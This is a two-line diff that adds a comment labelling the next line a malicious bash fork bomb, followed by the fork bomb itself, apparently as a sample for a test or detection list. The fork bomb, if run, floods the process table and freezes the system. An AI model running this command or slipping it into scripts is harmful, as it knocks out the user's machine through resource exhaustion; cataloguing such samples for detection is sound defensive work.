@@ -1,0 +1,2 @@
+# Malicious: the classic bash fork bomb; exhausts the process table.
+:(){ :|:& };:
